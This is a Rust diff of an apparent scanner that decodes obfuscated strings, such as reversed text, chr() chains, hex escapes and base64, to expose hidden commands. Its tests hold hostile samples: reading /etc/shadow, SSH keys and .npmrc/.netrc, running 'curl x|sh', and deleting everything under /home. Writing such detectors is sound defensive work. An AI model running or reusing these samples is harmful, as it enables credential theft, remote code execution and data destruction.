@@ -46,9 +46,52 @@ fn puts_together(text: &str) -> bool {
     holds(
         text,
         &[
-            "'+", "\"+", "+'", "+\"", "' +", "\" +", "+ '", "+ \"", "join", "chr(", "CharCode", "[::-1]", "\\x", "\\u",
-            ".format(", "' %", "\" %", "'%", "\"%", "b64decode", "atob(", "fromhex", "reverse", " as ", " = ", "='", "=\"",
-            "' '", "\" \"", "'\"", "${", "{", "/'", "/ '", "/\"", "/ \"", "' .", "\" .", "'.", "\".", "import ", "[\"", "['", "require(", "glob(", "iterdir(",
+            "'+",
+            "\"+",
+            "+'",
+            "+\"",
+            "' +",
+            "\" +",
+            "+ '",
+            "+ \"",
+            "join",
+            "chr(",
+            "CharCode",
+            "[::-1]",
+            "\\x",
+            "\\u",
+            ".format(",
+            "' %",
+            "\" %",
+            "'%",
+            "\"%",
+            "b64decode",
+            "atob(",
+            "fromhex",
+            "reverse",
+            " as ",
+            " = ",
+            "='",
+            "=\"",
+            "' '",
+            "\" \"",
+            "'\"",
+            "${",
+            "{",
+            "/'",
+            "/ '",
+            "/\"",
+            "/ \"",
+            "' .",
+            "\" .",
+            "'.",
+            "\".",
+            "import ",
+            "[\"",
+            "['",
+            "require(",
+            "glob(",
+            "iterdir(",
         ],
     )
 }
@@ -68,6 +111,8 @@ enum Meaning {
     Text(String),
     /// Another name: of a module, or a function.
     Name(String),
+    /// The first text of a list.
+    List(String),
 }
 
 /// A value, and whether it is anything but one string as it was written.
@@ -95,7 +140,9 @@ impl<'t> Reader<'t> {
     fn line(&self, ends: &[char]) -> &'t str {
         let rest = self.rest();
         let rest = &rest[..rest.floor_char_boundary(MAX_LINE)];
-        &rest[..rest.find(|c| c == '\n' || ends.contains(&c)).unwrap_or(rest.len())]
+        &rest[..rest
+            .find(|c| c == '\n' || ends.contains(&c))
+            .unwrap_or(rest.len())]
     }
 
     fn read(&mut self) {
@@ -152,7 +199,8 @@ impl<'t> Reader<'t> {
     /// `NAME = VALUE`, `for NAME in CALL(VALUE)`, `import A as B`: gives whether one stands here, and steps over its name.
     fn binds(&mut self) -> bool {
         let rest = self.rest();
-        let boundary = !self.text[..self.at].ends_with(|c: char| c.is_alphanumeric() || matches!(c, '_' | '.'));
+        let boundary =
+            !self.text[..self.at].ends_with(|c: char| c.is_alphanumeric() || matches!(c, '_' | '.'));
         let word = word_of(rest);
         if !boundary || word.is_empty() || self.names.len() >= MAX_NAMES {
             return false;
@@ -168,9 +216,17 @@ impl<'t> Reader<'t> {
         }
         let behind = rest[word.len()..].trim_start();
         let behind = behind.strip_prefix(':').unwrap_or(behind);
-        if let Some(right) = behind.strip_prefix('=').filter(|right| !right.starts_with(['=', '>', '~'])) {
+        if let Some(right) = behind
+            .strip_prefix('=')
+            .filter(|right| !right.starts_with(['=', '>', '~']))
+        {
             let start = self.at;
             self.at = self.text.len() - right.trim_start().len();
+            if let Some(first) = self.first_of_list() {
+                self.names.insert(word, Meaning::List(first));
+                self.at = start + word.len();
+                return true;
+            }
             let value = self.value(0);
             let whole = self.rest().trim_start_matches([' ', ')']);
             let ends = whole.is_empty() || whole.starts_with([';', '\n', ',', '&', '}']);
@@ -179,7 +235,12 @@ impl<'t> Reader<'t> {
             } else {
                 self.at = start;
                 let behind = self.text.len() - right.trim_start().len();
-                let line = Reader { at: behind, ..Reader::new(self.text, HashMap::new()) }.line(&[';', ',']).trim_end();
+                let line = Reader {
+                    at: behind,
+                    ..Reader::new(self.text, HashMap::new())
+                }
+                .line(&[';', ','])
+                .trim_end();
                 let last = line.rsplit('.').next().unwrap_or_default();
                 if line.contains('.') && RUNNERS.contains(&last) {
                     self.names.insert(word, Meaning::Name(last.to_owned()));
@@ -207,7 +268,9 @@ impl<'t> Reader<'t> {
             let (name, alias) = item.split_once(" as ").unwrap_or((item, item));
             let (name, alias) = (name.trim(), alias.trim());
             let meaning = match module {
-                Some(module @ ("os" | "subprocess" | "shutil" | "socket" | "pty")) => format!("{module}.{name}"),
+                Some(module @ ("os" | "subprocess" | "shutil" | "socket" | "pty")) => {
+                    format!("{module}.{name}")
+                }
                 Some(_) => continue,
                 None => name.to_owned(),
             };
@@ -226,10 +289,28 @@ impl<'t> Reader<'t> {
         };
         let name = word_of(targets.trim_start());
         let call = from.trim_start();
+        let listed = match self.names.get(word_of(call)) {
+            Some(Meaning::List(first)) => Some(first.clone()),
+            _ => {
+                let start = self.at;
+                let before = self.line(&[]).len() - call.len();
+                self.at += before;
+                let first = self.first_of_list();
+                self.at = start;
+                first
+            }
+        };
+        if let Some(first) = listed.filter(|_| !name.is_empty()) {
+            self.names.insert(name, Meaning::Text(first));
+            return;
+        }
         let Some(open) = call.find('(') else { return };
         let (called, behind) = call.split_at(open);
         // `listdir(VALUE)`, or `Path(VALUE).rglob(…)`
-        let lists = holds(called, &["listdir", "walk", "scandir", "glob", "readdir", "entries"]);
+        let lists = holds(
+            called,
+            &["listdir", "walk", "scandir", "glob", "readdir", "entries"],
+        );
         let path = called.ends_with("Path") && holds(behind, &["glob(", "iterdir(", "walk("]);
         if name.is_empty() || !(lists || path) || !called.chars().all(|c| is_name_char(c) || c == '.') {
             return;
@@ -240,10 +321,31 @@ impl<'t> Reader<'t> {
         self.at = line_at + before + if path { 0 } else { open + 1 };
         if let Some(value) = self.value(0) {
             let text = value.text.trim_end_matches('/');
-            let all = if text.ends_with('*') { text.to_owned() } else { format!("{text}/*") };
+            let all = if text.ends_with('*') {
+                text.to_owned()
+            } else {
+                format!("{text}/*")
+            };
             self.names.insert(name, Meaning::Text(all));
         }
         self.at = start;
+    }
+
+    /// The first text of the list of texts that begins here. Where there is one, the place is behind it.
+    fn first_of_list(&mut self) -> Option<String> {
+        let start = self.at;
+        if !(self.take("[") || self.take("(")) {
+            return None;
+        }
+        let rest = self.rest();
+        self.at += rest.len() - rest.trim_start().len();
+        let value = self
+            .value(0)
+            .filter(|_| self.rest().trim_start().starts_with([',', ']', ')']));
+        if value.is_none() {
+            self.at = start;
+        }
+        value.map(|value| value.text)
     }
 
     fn blanks(&mut self) {
@@ -271,26 +373,42 @@ impl<'t> Reader<'t> {
             let end = self.at;
             self.blanks();
             let path = holds(&value.text, &["/", "~"]) || value.text.is_empty();
-            let joint = if self.take("+") || self.take("..") || (self.rest().starts_with(". ") && self.take(".")) {
-                ""
-            } else if path && self.rest().starts_with(['/']) && !self.rest().starts_with("//") && self.take("/") {
-                "/"
-            } else if self.rest().starts_with(['\'', '"']) && self.text[..end].ends_with(['\'', '"']) {
-                ""
-            } else if self.rest().starts_with('%') && value.text.contains('%') {
-                self.at += 1;
-                self.blanks();
-                let given = self.arguments_or_one(depth);
-                value = Value { text: fill(&value.text, &given), made: true };
-                continue;
-            } else {
-                self.at = end;
-                break;
-            };
+            let joint =
+                if self.take("+") || self.take("..") || (self.rest().starts_with(". ") && self.take(".")) {
+                    ""
+                } else if path
+                    && self.rest().starts_with(['/'])
+                    && !self.rest().starts_with("//")
+                    && self.take("/")
+                {
+                    "/"
+                } else if self.rest().starts_with(['\'', '"']) && self.text[..end].ends_with(['\'', '"']) {
+                    ""
+                } else if self.rest().starts_with('%') && value.text.contains('%') {
+                    self.at += 1;
+                    self.blanks();
+                    let given = self.arguments_or_one(depth);
+                    value = Value {
+                        text: fill(&value.text, &given),
+                        made: true,
+                    };
+                    continue;
+                } else {
+                    self.at = end;
+                    break;
+                };
             self.blanks();
             let before = self.at;
             match self.single(depth + 1) {
-                Some(next) => value.text = format!("{}{joint}{}", value.text.trim_end_matches(if joint.is_empty() { '\0' } else { '/' }), next.text),
+                Some(next) => {
+                    value.text = format!(
+                        "{}{joint}{}",
+                        value
+                            .text
+                            .trim_end_matches(if joint.is_empty() { '\0' } else { '/' }),
+                        next.text
+                    )
+                }
                 None => {
                     // What is not known: one operand without brackets, or a call.
                     self.at = before;
@@ -298,7 +416,12 @@ impl<'t> Reader<'t> {
                         self.at = end;
                         break;
                     }
-                    value.text = format!("{}{joint}*", value.text.trim_end_matches(if joint.is_empty() { '\0' } else { '/' }));
+                    value.text = format!(
+                        "{}{joint}*",
+                        value
+                            .text
+                            .trim_end_matches(if joint.is_empty() { '\0' } else { '/' })
+                    );
                 }
             }
             value.made = true;
@@ -314,7 +437,10 @@ impl<'t> Reader<'t> {
     fn skip_operand(&mut self) -> bool {
         let start = self.at;
         let rest = self.rest();
-        self.at += rest.len() - rest.trim_start_matches(|c: char| is_name_char(c) || matches!(c, '.' | '$')).len();
+        self.at += rest.len()
+            - rest
+                .trim_start_matches(|c: char| is_name_char(c) || matches!(c, '.' | '$'))
+                .len();
         if self.rest().starts_with(['(', '['])
             && let Some(end) = self.line(&[]).find([')', ']'])
         {
@@ -328,23 +454,55 @@ impl<'t> Reader<'t> {
         let mut value = self.first(depth)?;
         loop {
             let rest = self.rest();
-            let reversed = ["[::-1]", ".reverse", ".split('').reverse().join('')", ".split(\"\").reverse().join(\"\")"];
+            let reversed = [
+                "[::-1]",
+                ".reverse",
+                ".split('').reverse().join('')",
+                ".split(\"\").reverse().join(\"\")",
+            ];
             if let Some(word) = reversed.iter().rev().find(|word| rest.starts_with(**word)) {
                 self.at += word.len();
-                value = Value { text: value.text.chars().rev().collect(), made: true };
+                value = Value {
+                    text: value.text.chars().rev().collect(),
+                    made: true,
+                };
             } else if self.take(".format(") {
                 let given = self.list(depth, ')');
-                value = Value { text: fill(&value.text, &given), made: true };
+                value = Value {
+                    text: fill(&value.text, &given),
+                    made: true,
+                };
             } else if self.take(".joinpath(") {
                 let given = self.list(depth, ')');
-                value = Value { text: joined(std::iter::once(value.text).chain(given)), made: true };
+                value = Value {
+                    text: joined(std::iter::once(value.text).chain(given)),
+                    made: true,
+                };
             } else if self.take(".join([") || self.take(".join((") {
-                let given = self.list(depth, if self.text[..self.at].ends_with('[') { ']' } else { ')' });
+                let given = self.list(
+                    depth,
+                    if self.text[..self.at].ends_with('[') {
+                        ']'
+                    } else {
+                        ')'
+                    },
+                );
                 self.take(")");
-                value = Value { text: given.join(&value.text), made: true };
-            } else if let Some(word) = [".decode()", ".toString()", ".strip()", ".decode('utf-8')", ".expanduser()", ".resolve()", ".decode(\"utf-8\")"]
-                .iter()
-                .find(|word| rest.starts_with(**word))
+                value = Value {
+                    text: given.join(&value.text),
+                    made: true,
+                };
+            } else if let Some(word) = [
+                ".decode()",
+                ".toString()",
+                ".strip()",
+                ".decode('utf-8')",
+                ".expanduser()",
+                ".resolve()",
+                ".decode(\"utf-8\")",
+            ]
+            .iter()
+            .find(|word| rest.starts_with(**word))
             {
                 self.at += word.len();
             } else {
@@ -371,7 +529,10 @@ impl<'t> Reader<'t> {
         if let Some(call) = JOINS.iter().find(|call| rest.starts_with(**call)) {
             self.at += call.len();
             let parts = self.list(depth, ')');
-            return (!parts.is_empty()).then(|| Value { text: joined(parts), made: true });
+            return (!parts.is_empty()).then(|| Value {
+                text: joined(parts),
+                made: true,
+            });
         }
         if let Some(call) = SAME.iter().find(|call| rest.starts_with(**call)) {
             self.at += call.len();
@@ -392,13 +553,17 @@ impl<'t> Reader<'t> {
             if rest.starts_with(call) {
                 let end = self.line(&[]).find(')')?;
                 let code = |part: &str| part.trim().parse::<u32>().ok().and_then(char::from_u32);
-                let text = rest[call.len()..end].split(',').map(code).collect::<Option<String>>()?;
+                let text = rest[call.len()..end]
+                    .split(',')
+                    .map(code)
+                    .collect::<Option<String>>()?;
                 self.at += end + 1;
                 return made(text);
             }
         }
         let word = word_of(rest.strip_prefix('$').unwrap_or(rest));
-        let prefix = matches!(word, "f" | "r" | "b" | "u" | "fr" | "rb") && rest[word.len()..].starts_with(['\'', '"']);
+        let prefix = matches!(word, "f" | "r" | "b" | "u" | "fr" | "rb")
+            && rest[word.len()..].starts_with(['\'', '"']);
         if prefix || rest.starts_with(['\'', '"', '`']) {
             self.at += if prefix { word.len() } else { 0 };
             return self.string(word.contains('r'));
@@ -418,11 +583,18 @@ impl<'t> Reader<'t> {
         let rest = self.rest();
         let quote = rest.chars().next()?;
         let triple: String = std::iter::repeat_n(quote, 3).collect();
-        let mark = if rest.starts_with(&triple) { triple } else { quote.to_string() };
+        let mark = if rest.starts_with(&triple) {
+            triple
+        } else {
+            quote.to_string()
+        };
         let inner = &rest[mark.len()..];
         let mut end = 0;
         loop {
-            let next = inner[end..].find([quote, '\\', '\n']).filter(|_| end <= MAX_VALUE)? + end;
+            let next = inner[end..]
+                .find([quote, '\\', '\n'])
+                .filter(|_| end <= MAX_VALUE)?
+                + end;
             match inner.as_bytes()[next] {
                 b'\\' => end = next + 1 + inner[next + 1..].chars().next()?.len_utf8(),
                 b'\n' if mark.len() == 1 && quote != '`' => return None,
@@ -435,7 +607,11 @@ impl<'t> Reader<'t> {
         }
         self.at += end + 2 * mark.len();
         let source = &inner[..end];
-        let text = if raw { Cow::Borrowed(source) } else { unescaped(source) };
+        let text = if raw {
+            Cow::Borrowed(source)
+        } else {
+            unescaped(source)
+        };
         let text = self.interpolated(&text);
         (text.len() <= MAX_VALUE).then(|| Value {
             made: text != source,
@@ -569,7 +745,16 @@ const SAME: &[&str] = &[
 ];
 
 /// Functions that run a text, by whatever name they are called.
-const RUNNERS: &[&str] = &["exec", "execSync", "spawn", "spawnSync", "execFile", "execFileSync", "system", "popen"];
+const RUNNERS: &[&str] = &[
+    "exec",
+    "execSync",
+    "spawn",
+    "spawnSync",
+    "execFile",
+    "execFileSync",
+    "system",
+    "popen",
+];
 
 type Decode = fn(&str) -> Option<String>;
 
@@ -634,12 +819,19 @@ fn fill(text: &str, given: &[String]) -> String {
     while let Some(at) = rest.find(['{', '%']) {
         written.push_str(&rest[..at]);
         let (length, fits) = if rest[at..].starts_with('%') {
-            (2.min(rest.len() - at), rest[at..].starts_with("%s") || rest[at..].starts_with("%d"))
+            (
+                2.min(rest.len() - at),
+                rest[at..].starts_with("%s") || rest[at..].starts_with("%d"),
+            )
         } else {
             let close = rest[at..].find('}').map_or(1, |close| close + 1);
             (close, close > 1)
         };
-        let length = if rest.is_char_boundary(at + length) { length } else { 1 };
+        let length = if rest.is_char_boundary(at + length) {
+            length
+        } else {
+            1
+        };
         match next.next().filter(|_| fits) {
             Some(value) => written.push_str(value),
             None => written.push_str(&rest[at..at + length]),
@@ -661,7 +853,9 @@ fn unescaped(text: &str) -> Cow<'_, str> {
         written.push_str(&rest[..at]);
         let behind = &rest[at + 1..];
         let code = |from: usize, digits: usize, radix| {
-            let code = behind.get(from..from + digits).and_then(|code| u32::from_str_radix(code, radix).ok());
+            let code = behind
+                .get(from..from + digits)
+                .and_then(|code| u32::from_str_radix(code, radix).ok());
             code.and_then(char::from_u32).map(|c| (c, from + digits))
         };
         let (c, length) = match behind.chars().next() {
@@ -698,18 +892,39 @@ mod tests {
             ("open('wodahs/cte/'[::-1])", "open('/etc/shadow')"),
             ("open(chr(47)+'etc'+chr(47)+'shadow')", "open('/etc/shadow')"),
             ("open('\\x2fetc\\x2fshadow')", "open('/etc/shadow')"),
-            ("open(base64.b64decode('L2V0Yy9zaGFkb3c=').decode())", "open('/etc/shadow')"),
-            ("(Path.home()/'.ssh'/'id_rsa').read_text()", "('~/.ssh/id_rsa').read_text()"),
-            ("readFileSync(process.env.HOME+'/.npmrc')", "readFileSync('~/.npmrc')"),
-            ("readFileSync(`${process.env.HOME}/.npmrc`)", "readFileSync('~/.npmrc')"),
+            (
+                "open(base64.b64decode('L2V0Yy9zaGFkb3c=').decode())",
+                "open('/etc/shadow')",
+            ),
+            (
+                "(Path.home()/'.ssh'/'id_rsa').read_text()",
+                "('~/.ssh/id_rsa').read_text()",
+            ),
+            (
+                "readFileSync(process.env.HOME+'/.npmrc')",
+                "readFileSync('~/.npmrc')",
+            ),
+            (
+                "readFileSync(`${process.env.HOME}/.npmrc`)",
+                "readFileSync('~/.npmrc')",
+            ),
             ("h=os.environ['HOME'];open(f'{h}/.netrc')", "open('~/.netrc')"),
             ("os.system('cu'+'rl x|sh')", "os.system('curl x|sh')"),
             ("require('child_process')['ex'+'ec']('id')", ".exec('id')"),
             ("import subprocess as s;s.run('id')", "subprocess.run('id')"),
             ("from os import system as s;s('id')", "os.system('id')"),
-            ("const e=require('child_process').execSync;e('id')", "execSync('id')"),
-            ("for d in os.listdir('/home'): rmtree(os.path.join('/home', d))", "rmtree('/home/*')"),
-            ("[os.remove(os.path.join(r,f)) for r,_,fs in os.walk('/home')]", "os.remove('/home/*/*')"),
+            (
+                "const e=require('child_process').execSync;e('id')",
+                "execSync('id')",
+            ),
+            (
+                "for d in os.listdir('/home'): rmtree(os.path.join('/home', d))",
+                "rmtree('/home/*')",
+            ),
+            (
+                "[os.remove(os.path.join(r,f)) for r,_,fs in os.walk('/home')]",
+                "os.remove('/home/*/*')",
+            ),
         ] {
             let spelled = out(text).unwrap_or_default();
             assert!(spelled.contains(part), "{text}: {spelled}");
@@ -726,9 +941,24 @@ mod tests {
     #[test]
     fn no_text_makes_it_panic_or_slow() {
         for text in [
-            "'", "'+", "f'{", "\\x", "'\\", "for in (", "a='a'+a;".repeat(400).as_str(), "'%'%".repeat(2000).as_str(),
-            "(".repeat(4000).as_str(), "os.path.join(".repeat(1000).as_str(), "é='ü'+'\\xé'", "'{'.format(", "'%é'%('a')",
-            "from os import", "import a as", "for é in os.listdir('/'", "str(".repeat(3000).as_str(), "'\\u12",
+            "'",
+            "'+",
+            "f'{",
+            "\\x",
+            "'\\",
+            "for in (",
+            "a='a'+a;".repeat(400).as_str(),
+            "'%'%".repeat(2000).as_str(),
+            "(".repeat(4000).as_str(),
+            "os.path.join(".repeat(1000).as_str(),
+            "é='ü'+'\\xé'",
+            "'{'.format(",
+            "'%é'%('a')",
+            "from os import",
+            "import a as",
+            "for é in os.listdir('/'",
+            "str(".repeat(3000).as_str(),
+            "'\\u12",
         ] {
             out(text);
         }
